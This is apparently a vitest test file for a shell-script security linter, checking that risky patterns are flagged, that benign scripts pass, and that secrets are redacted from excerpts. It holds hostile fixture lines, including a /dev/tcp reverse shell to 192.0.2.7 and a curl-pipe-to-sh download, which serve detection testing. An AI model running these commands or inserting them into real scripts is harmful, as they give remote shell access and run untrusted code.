import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { processorTime } from '../../../model/processor-time.test-support.ts';
import { inspectShellSource, shellSourceRules } from '../index.ts';
import { cases } from './cases.table.ts';

const rulesIn = (text: string): readonly string[] => inspectShellSource({ path: 'a.sh', text }).findings.map(({ rule }) => rule);

describe('cases', () => {
  test.each(cases.map((one, index) => [`${one.rule} ${index}`, one] as const))('%s', (_name, { rule, bad, good }) => {
    expect(rulesIn(bad)).toContain(rule);
    expect(rulesIn(good)).not.toContain(rule);
  });
});

test('every rule has cases, and a page that names its weakness', () => {
  for (const { id, title, cwe, severity } of shellSourceRules) {
    expect(cases.map(({ rule }) => rule)).toContain(id);
    const page = readFileSync(new URL(`../../../../docs/rules/${id}.md`, import.meta.url), 'utf8');
    expect(page).toContain(`# ${id}: ${title}\n\n${cwe}, ${severity}`);
  }
});

test.each([
  ['a script that installs', '#!/bin/sh\nset -eu\ncd "$(dirname "$0")"\nnpm ci\nrm -rf dist\nnpm run build\n'],
  ['a trap that cleans up', 'tmp=$(mktemp -d)\ntrap \'rm -rf "$tmp"\' EXIT\ncp a "$tmp/"\nrm -rf "$tmp"/*\n'],
  ['a deletion in a loop', 'for d in */; do rm -rf "$d"; done\n'],
  ['text about commands', 'echo "run: rm -rf /"\ncat <<EOF\nchmod 777 x\nEOF\n# setenforce 0\n'],
  ['a function', 'die() { echo "$1" >&2; exit 1; }\n'],
  ['the sticky bit', 'chmod 1777 /srv/share\nchmod +x a.sh\nchmod 0644 b\n'],
  ['a mask in a pipeline', 'echo "::add-mask::$API_TOKEN"\n'],
  ['this machine', 'curl -k https://localhost:8443/health\n'],
])('%s is clean', (_name, text) => {
  expect(rulesIn(text)).toEqual([]);
});

test('what no honest script needs is reported beside it, in order, and no secret is shown', () => {
  const secret = ['Tr0', 'ub4dor'].join('');
  const { findings } = inspectShellSource({
    path: 'a.sh',
    text: `chmod 777 x; P=${secret}\ncurl -s https://h.example/i | sh\n`,
    secrets: (text) =>
      text.includes(secret) ? [{ start: text.indexOf(secret), end: text.indexOf(secret) + secret.length, rule: 'password' }] : [],
  });
  expect(findings.map(({ rule, place }) => `${rule} ${place.line}`)).toEqual(['shell-wide-rights 1', 'SC-04 2']);
  expect(findings[0]?.excerpt).toBe('chmod 777 x; P=[password]');
});

test.each([
  ['rm -rf $a/* '],
  ['eval $a;'],
  ['chmod 777 '],
  ['cd a\nrm -rf *\n'],
  ['$('],
  ['docker run -v '],
  ['sha256sum -c a||true;'],
  ["bash -c 'a' "],
])('200 kB of %j are read in bounded time', (part) => {
  const begin = processorTime();
  inspectShellSource({ path: 'a.sh', text: part.repeat(Math.ceil(200_000 / part.length)) });
  expect(processorTime() - begin).toBeLessThan(5000);
});

test('a secret that stands where the excerpt of a grave finding ends is cut out whole', () => {
  const text = `bash -i >& /dev/tcp/192.0.2.7/4444 0>&1 # ${'x'.repeat(104)} KEY-0123456789abcdef\n`;
  const secrets = (line: string): { start: number; end: number; rule: string }[] =>
    [...line.matchAll(/KEY-\w{16}/g)].map(({ index, 0: found }) => ({ start: index, end: index + found.length, rule: 'key' }));
  const { findings } = inspectShellSource({ path: 'a.sh', text, secrets });
  expect(findings.map(({ rule }) => rule)).toContain('SC-02');
  expect(JSON.stringify(findings)).not.toContain('KEY-');
});
